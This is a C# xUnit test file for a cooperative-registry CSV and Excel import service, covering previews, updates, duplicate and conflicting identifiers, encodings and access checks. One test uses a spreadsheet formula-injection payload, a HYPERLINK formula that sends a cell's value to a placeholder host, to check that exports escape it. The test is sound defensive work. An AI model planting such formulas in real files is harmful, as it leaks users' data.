using KopUkm.Dashboard.Data.Auditing;
using KopUkm.Dashboard.Features.Cooperatives;
using KopUkm.Dashboard.Features.Cooperatives.Import;
using KopUkm.Dashboard.Features.Security;
using KopUkm.Dashboard.Tests.Common;
using KopUkm.Dashboard.Tests.TestInfrastructure;
using Microsoft.EntityFrameworkCore;
using static KopUkm.Dashboard.Tests.Features.Cooperatives.Import.ImportFiles;

namespace KopUkm.Dashboard.Tests.Features.Cooperatives.Import;

public sealed class CooperativeImportServiceTests : IAsyncLifetime
{
    private static readonly string ThreeGoodOneBad = Csv(
    [
        Row("KSP Maju Bersama", "1571010001", "9120001234567"),
        Row("KUD Sumber Rejeki", "1501020002", "", (CooperativeCsvFormat.Region, "Kabupaten Kerinci")),
        Row("Koperasi Konsumen Pegawai", "", "9120007654321", (CooperativeCsvFormat.Type, "Konsumen")),
        Row("KSP Tanpa Wilayah", "1571010004", "", (CooperativeCsvFormat.Region, "")),
    ]);

    private TestServices app = default!;

    public async Task InitializeAsync()
    {
        app = await TestServices.CreateAsync();
        app.ActAs(AppRoles.Petugas, 2, "petugas-klm", divisionCode: "KLM");
    }

    public async Task DisposeAsync() => await app.DisposeAsync();

    [Fact]
    public async Task The_preview_counts_what_would_happen_and_writes_nothing()
    {
        var preview = await app.Get<CooperativeImportService>().PreviewAsync(Stream(ThreeGoodOneBad), "koperasi.csv");

        Assert.Equal((3, 0, 0, 1), (preview.ToAdd, preview.ToUpdate, preview.Unchanged, preview.BadRows));
        Assert.Equal((5, "CooperativeImport.Required"), (Assert.Single(preview.Errors).Line, preview.Errors[0].MessageKey));
        Assert.Equal(["KSP Maju Bersama", "KUD Sumber Rejeki", "Koperasi Konsumen Pegawai"], preview.FirstRows.Select(r => r.Name));
        Assert.Equal("Kerinci", preview.FirstRows[1].RegionName);
        await using var db = await app.DbAsync();
        Assert.Equal(0, await db.Set<Cooperative>().CountAsync());
    }

    [Fact]
    public async Task Import_adds_the_valid_rows_and_reports_the_bad_ones()
    {
        var result = await app.Get<CooperativeImportService>().ImportAsync(Stream(ThreeGoodOneBad), "koperasi.csv");

        Assert.Equal((3, 0, 0), (result.Added, result.Updated, result.Unchanged));
        Assert.Equal(5, Assert.Single(result.Errors).Line);
        Assert.False(result.AllRowsValid);
        await using var db = await app.DbAsync();
        var saved = await db.Set<Cooperative>().Include(c => c.Region).OrderBy(c => c.Id).ToListAsync();
        Assert.Equal(["KSP Maju Bersama", "KUD Sumber Rejeki", "Koperasi Konsumen Pegawai"], saved.Select(c => c.Name));
        Assert.Equal(("Jambi", "1571010001", "9120001234567", 120, 1L), (saved[0].Region!.Name, saved[0].Nik, saved[0].Nib, saved[0].MemberCount, saved[0].Version));
        Assert.Null(saved[2].Nik);
        Assert.Equal(CooperativeType.Konsumen, saved[2].Type);
    }

    [Fact]
    public async Task Importing_the_same_file_again_changes_nothing_not_even_versions_or_the_audit_trail()
    {
        var imports = app.Get<CooperativeImportService>();
        await imports.ImportAsync(Stream(ThreeGoodOneBad), "koperasi.csv");
        var auditRows = await CountAuditRowsAsync();

        var again = await imports.ImportAsync(Stream(ThreeGoodOneBad), "koperasi.csv");

        Assert.Equal((0, 0, 3), (again.Added, again.Updated, again.Unchanged));
        Assert.Equal(auditRows, await CountAuditRowsAsync());
        await using var db = await app.DbAsync();
        Assert.All(await db.Set<Cooperative>().ToListAsync(), c => Assert.Equal(1, c.Version));
    }

    [Fact]
    public async Task An_edited_value_updates_that_cooperative_only()
    {
        var imports = app.Get<CooperativeImportService>();
        await imports.ImportAsync(Stream(ThreeGoodOneBad), "koperasi.csv");
        var edited = Csv(
        [
            Row("KSP Maju Bersama", "1571010001", "9120001234567", (CooperativeCsvFormat.Members, "150")),
            Row("KUD Sumber Rejeki", "1501020002", "", (CooperativeCsvFormat.Region, "15.01")),
            Row("Koperasi Konsumen Pegawai", "", "9120007654321", (CooperativeCsvFormat.Type, "konsumen")),
        ]);

        var preview = await imports.PreviewAsync(Stream(edited), "koperasi.csv");
        var result = await imports.ImportAsync(Stream(edited), "koperasi.csv");

        Assert.Equal([CooperativeImportAction.Update, CooperativeImportAction.Unchanged, CooperativeImportAction.Unchanged], preview.FirstRows.Select(r => r.Action));
        Assert.Equal((0, 1, 2), (result.Added, result.Updated, result.Unchanged));
        Assert.True(result.AllRowsValid);
        await using var db = await app.DbAsync();
        var maju = await db.Set<Cooperative>().SingleAsync(c => c.Nik == "1571010001");
        Assert.Equal((150, 2L), (maju.MemberCount, maju.Version));
    }

    [Fact]
    public async Task A_column_the_file_lacks_and_a_blank_identifier_leave_the_stored_values_alone()
    {
        var imports = app.Get<CooperativeImportService>();
        await imports.ImportAsync(Stream(ThreeGoodOneBad), "koperasi.csv");
        string[] fewer = [.. CooperativeCsvFormat.Header.Where(c => c != CooperativeCsvFormat.Email)];

        var result = await imports.ImportAsync(Stream(Csv([Row("KSP Maju Bersama", "1571010001", "")], fewer)), "koperasi.csv");

        Assert.Equal((0, 0, 1), (result.Added, result.Updated, result.Unchanged));
        await using var db = await app.DbAsync();
        var maju = await db.Set<Cooperative>().SingleAsync(c => c.Nik == "1571010001");
        Assert.Equal(("pengurus@contoh.id", "9120001234567"), (maju.Email, maju.Nib));
    }

    [Fact]
    public async Task A_row_without_nik_or_nib_is_recognised_by_name_and_region_when_imported_again()
    {
        var imports = app.Get<CooperativeImportService>();
        var file = Csv([Row("Koperasi Tani Makmur", "", "", (CooperativeCsvFormat.Region, "Kerinci"))]);
        await imports.ImportAsync(Stream(file), "koperasi.csv");

        var again = await imports.ImportAsync(Stream(file.Replace("Koperasi Tani Makmur", "KOPERASI TANI  MAKMUR", StringComparison.Ordinal)), "koperasi.csv");

        Assert.Equal((0, 1, 0), (again.Added, again.Updated, again.Unchanged));
        await using var db = await app.DbAsync();
        Assert.Equal("KOPERASI TANI  MAKMUR", (await db.Set<Cooperative>().SingleAsync()).Name);
    }

    [Fact]
    public async Task A_row_whose_nik_belongs_to_another_cooperative_than_its_nib_is_a_bad_row()
    {
        var imports = app.Get<CooperativeImportService>();
        await imports.ImportAsync(Stream(ThreeGoodOneBad), "koperasi.csv");

        // The consumers' cooperative by its NIB, but carrying the NIK of KSP Maju Bersama.
        var file = Csv([Row("Koperasi Konsumen Pegawai", "1571010001", "9120007654321", (CooperativeCsvFormat.Type, "Konsumen"))]);
        var preview = await imports.PreviewAsync(Stream(file), "koperasi.csv");
        var result = await imports.ImportAsync(Stream(file), "koperasi.csv");

        Assert.Equal([(2, "CooperativeImport.IdentifiersDisagree")], preview.Errors.Select(e => (e.Line, e.MessageKey)));
        Assert.Equal(0, preview.ToAdd + preview.ToUpdate + preview.Unchanged);
        Assert.Equal((0, 0, 0, 1), (result.Added, result.Updated, result.Unchanged, result.BadRows));
        await using var db = await app.DbAsync();
        Assert.Null((await db.Set<Cooperative>().SingleAsync(c => c.Nib == "9120007654321")).Nik);
    }

    [Fact]
    public async Task Two_rows_that_describe_the_same_cooperative_reject_the_second()
    {
        var imports = app.Get<CooperativeImportService>();
        await imports.ImportAsync(Stream(ThreeGoodOneBad), "koperasi.csv");

        var result = await imports.PreviewAsync(
            Stream(Csv([Row("KSP Maju Bersama", "1571010001", ""), Row("KSP Maju Bersama Baru", "", "9120001234567")])),
            "koperasi.csv");

        Assert.Equal([(3, "CooperativeImport.SameCooperativeTwice", "2")], result.Errors.Select(e => (e.Line, e.MessageKey, e.Value)));
        Assert.Equal(1, result.Unchanged);
    }

    [Fact]
    public async Task A_workbook_is_imported_through_the_same_rules()
    {
        var rows = new[]
        {
            Row("KSP Excel Satu", "1571010011", "", (CooperativeCsvFormat.Region, "Sungai Penuh")),
            Row("KSP Excel Dua", "1571010012", "", (CooperativeCsvFormat.Members, "4")),
            Row("KSP Excel Tiga", "1571010013", ""),
        }.Select(r => r.ToDictionary(kv => kv.Key, kv => (object?)kv.Value));
        using var workbook = Workbook(rows);

        var result = await app.Get<CooperativeImportService>().ImportAsync(workbook, "Daftar Koperasi.XLSX");

        Assert.Equal((2, 0, 0), (result.Added, result.Updated, result.Unchanged));
        Assert.Equal([(3, "Cooperatives.PrimaryMembers")], result.Errors.Select(e => (e.Line, e.MessageKey)));
    }

    [Theory]
    [InlineData("koperasi.csv")]
    [InlineData("koperasi.xlsx")]
    public async Task An_exported_list_with_formula_like_values_imports_back_to_the_same_values(string fileName)
    {
        var original = new Cooperative
        {
            Name = "=HYPERLINK(\"http://contoh.invalid/?d=\"&B2,\"Klik\")",
            Address = "+62 Jalan Sudirman",
            ChairName = "@Siti Aminah",
            DeedNumber = "-2",
            AhuDecreeNumber = "'=1+1",
            Phone = "+62 812 3456 7890",
            MemberCount = 30,
            Nik = "1571010099",
        };
        string[] row = CooperativeCsvFormat.ToRow(original, "Jambi");
        var file = fileName.EndsWith(".csv", StringComparison.Ordinal) ? CooperativeExportEndpoints.ToCsv([row]) : CooperativeExportEndpoints.ToExcel([row]);
        if (fileName.EndsWith(".csv", StringComparison.Ordinal))
        {
            var cells = CsvFileTests.ReadCells(file)[1];
            Assert.All([cells[0], cells[5], cells[6], cells[7], cells[11], cells[13]], cell => Assert.StartsWith("'", cell, StringComparison.Ordinal));
        }

        var result = await app.Get<CooperativeImportService>().ImportAsync(new MemoryStream(file), fileName);

        Assert.True(result.AllRowsValid, string.Join("; ", result.Errors));
        await using var db = await app.DbAsync();
        var saved = await db.Set<Cooperative>().SingleAsync();
        Assert.Equal(
            (original.Name, original.Address, original.ChairName, original.DeedNumber, original.AhuDecreeNumber, original.Phone),
            (saved.Name, saved.Address, saved.ChairName, saved.DeedNumber, saved.AhuDecreeNumber, saved.Phone));
    }

    [Fact]
    public async Task A_windows_1252_file_imports_its_names_right_and_says_how_it_was_read()
    {
        await using var file = EncodingFiles.Open("koperasi-windows1252.csv");

        var preview = await app.Get<CooperativeImportService>().PreviewAsync(file, "koperasi.csv");
        file.Position = 0;
        var result = await app.Get<CooperativeImportService>().ImportAsync(file, "koperasi.csv");

        Assert.True(preview.ReadAsWindows1252);
        Assert.Equal(EncodingFiles.Name, Assert.Single(preview.FirstRows).Name);
        Assert.True(result.ReadAsWindows1252);
        await using var db = await app.DbAsync();
        var saved = await db.Set<Cooperative>().SingleAsync();
        Assert.Equal((EncodingFiles.Name, EncodingFiles.Chair), (saved.Name, saved.ChairName));
    }

    [Fact]
    public async Task An_officer_outside_the_cooperative_divisions_is_refused()
    {
        app.ActAs(AppRoles.Petugas, 5, "petugas-umk", divisionCode: "UMK");
        var imports = app.Get<CooperativeImportService>();

        await Assert.ThrowsAsync<AccessDeniedException>(() => imports.PreviewAsync(Stream(ThreeGoodOneBad), "koperasi.csv"));
        await Assert.ThrowsAsync<AccessDeniedException>(() => imports.ImportAsync(Stream(ThreeGoodOneBad), "koperasi.csv"));
        await using var db = await app.DbAsync();
        Assert.Equal(0, await db.Set<Cooperative>().CountAsync());
    }

    private async Task<int> CountAuditRowsAsync()
    {
        await using var db = await app.DbAsync();
        return await db.Set<AuditEntry>().CountAsync();
    }
}
